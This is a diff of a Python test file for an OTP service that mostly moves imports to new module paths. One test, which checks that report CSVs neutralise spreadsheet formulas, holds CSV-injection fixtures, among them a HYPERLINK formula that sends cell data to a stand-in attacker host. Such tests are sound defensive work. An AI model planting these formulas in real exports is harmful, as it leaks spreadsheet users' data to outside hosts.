@@ -10,12 +10,13 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from otp_service import errors, report_queries, totp
-from otp_service.audit import RequestContext
-from otp_service.demo_data import generate
-from otp_service.models import AuditLog, Device, Report
-from otp_service.report_runner import NOTEBOOKS_DIR, render_pdf
-from otp_service.transitions import to_datetime
+from otp_service.audit.rows import RequestContext
+from otp_service.core import errors, totp
+from otp_service.core.transitions import to_datetime
+from otp_service.db.models import AuditLog, Device, Report
+from otp_service.reports import queries as report_queries
+from otp_service.reports.demo import generate
+from otp_service.reports.runner import NOTEBOOKS_DIR, render_pdf
 from tests.helpers import code_at, wrong_code
 from tests.serving import run_cli
 
@@ -61,7 +62,7 @@ def test_demo_data_is_reproducible_for_a_seed(service, database, tmp_path):
         ).returncode
         == 0
     )
-    from otp_service.database import open_database
+    from otp_service.db.database import open_database
 
     other = open_database(url, 1)
     assert totals(other) == first and lifecycle(other) == first_lifecycle
@@ -464,7 +465,7 @@ def test_report_csvs_neutralise_spreadsheet_formulas(tmp_path):
 
     import pandas as pd
 
-    from otp_service.report_queries import ReportOutput
+    from otp_service.reports.queries import ReportOutput
 
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
     frame = pd.DataFrame({"user_id": [*hostile, "alice", None], "failures": [1, 2, 3, 4, 5, 6, 7, 8]})
